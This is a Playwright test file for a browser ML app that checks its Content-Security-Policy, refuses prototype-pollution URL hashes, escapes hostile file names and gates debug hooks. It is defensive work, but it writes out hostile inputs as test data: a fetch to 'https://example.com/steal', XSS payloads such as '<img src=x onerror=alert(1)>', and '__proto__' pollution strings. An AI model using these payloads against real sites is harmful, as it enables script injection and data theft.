import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { expect, test, type Page } from '@playwright/test';

/** Collects CSP violations from the moment the page starts. */
async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
}

// Workers take their CSP from their own response, not from this meta tag, so the page's policy is what is
// tested here; train.spec.ts trains on WebGPU and WebGL under the same index.html.
test('the Content-Security-Policy holds and the app runs under it', async ({ page }) => {
  const violations = await watchCsp(page);
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto('/#preset=tiny&backend=cpu&embedEvery=1000&probeSize=16&trainCount=64&testCount=32');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toMatch(/default-src 'self'/);
  expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval';/); // no 'unsafe-eval', no 'unsafe-inline' scripts, no hosts
  expect(csp).not.toMatch(/https?:|\*/);

  await expect(page.getByTestId('backend')).toHaveText(/cpu/i, { timeout: 60_000 });
  await page.getByTestId('step-once').click();
  await expect(page.getByTestId('step')).toHaveText('1', { timeout: 60_000 });
  for (const v of ['embed', 'data', 'learn', 'train']) await page.getByTestId(`nav-${v}`).click();
  expect(await violations()).toEqual([]);

  // What an injection would try: an inline script, and a request to another origin. Both are refused.
  const outcome = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = 1';
    document.body.append(s);
    let fetched = 'sent';
    try {
      await fetch('https://example.com/steal');
    } catch {
      fetched = 'blocked';
    }
    return { pwned: (window as unknown as { __pwned?: number }).__pwned ?? 0, fetched };
  });
  expect(outcome).toEqual({ pwned: 0, fetched: 'blocked' });
  const after = await violations();
  expect(after.some((v) => v.startsWith('script-src'))).toBe(true);
  expect(after.some((v) => v.startsWith('connect-src') && v.includes('example.com'))).toBe(true);
  expect(errors).toEqual([]);
});

test('hostile URL hashes are refused with a visible message and pollute nothing', async ({ page }) => {
  for (const hash of ['__proto__[x]=1', '__proto__=1', 'constructor[prototype][x]=1', 'ndf=8&__proto__.polluted=yes']) {
    await page.goto(`/#${hash}`);
    await expect(page.getByTestId('config-error')).toBeVisible();
    await expect(page.getByTestId('config-error')).toContainText(/unknown key/);
    const polluted = await page.evaluate(() => {
      const o: Record<string, unknown> = {};
      return ['x', 'polluted'].some((k) => k in o);
    });
    expect(polluted).toBe(false);
  }
});

// ---- a minimal PNG encoder (RGB, 8 bit) for real, decodable images
const CRC = new Int32Array(256).map((_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c;
});
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  let c = -1;
  for (const v of body) c = CRC[(c ^ v) & 255] ^ (c >>> 8);
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE((c ^ -1) >>> 0, 8 + data.length);
  return out;
}
function png(size: number, rgb: [number, number, number]): Buffer {
  const raw = Buffer.alloc((size * 3 + 1) * size);
  for (let y = 0; y < size; y++) for (let x = 0; x < size; x++) raw.set([(rgb[0] + x) & 255, (rgb[1] + y) & 255, rgb[2]], y * (size * 3 + 1) + 1 + x * 3);
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}

test('hostile file and class names are shown as text, never as markup', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const evilFile = '<img src=x onerror=alert(1)>.png';
  const evilClass = '<svg onload=alert(2)>';
  const dir = join(mkdtempSync(join(tmpdir(), 'infomax-hostile-')), 'hostile');
  for (const [cls, rgb] of [
    [evilClass, [200, 30, 30]],
    ['plain', [30, 30, 200]],
  ] as const) {
    mkdirSync(join(dir, cls), { recursive: true });
    for (let i = 0; i < 3; i++) writeFileSync(join(dir, cls, `ok ${i}.png`), png(36, [rgb[0], rgb[1], rgb[2] + i]));
  }
  writeFileSync(join(dir, 'plain', evilFile), 'not a picture'); // undecodable, so it is listed by name

  await page.goto('/#preset=tiny&backend=cpu&embedEvery=1000');
  await page.getByTestId('nav-data').click();
  await page.getByTestId('folder-input').setInputFiles(dir);
  await expect(page.getByTestId('dataset-summary')).toHaveAttribute('data-skipped', '1', { timeout: 60_000 });
  await expect(page.getByTestId('skipped-list')).toContainText(evilFile);
  await expect(page.getByText(evilClass).first()).toBeVisible();
  // the names were not parsed as markup: no injected elements, no handlers ran
  expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
  expect(dialogs).toEqual([]);
});

test('the debug hooks exist only when a test asks for them', async ({ page }) => {
  await page.goto('/#preset=tiny&backend=cpu');
  await expect(page.getByTestId('step')).toHaveText('0');
  expect(await page.evaluate(() => 'debug' in ((window as unknown as { __infomax?: object }).__infomax ?? {}))).toBe(false);
  await page.goto('/?test-hooks#preset=tiny&backend=cpu');
  await expect(page.getByTestId('step')).toHaveText('0');
  await expect.poll(() => page.evaluate(() => typeof (window as unknown as { __infomax?: { debug?: unknown } }).__infomax?.debug)).toBe('function');
});
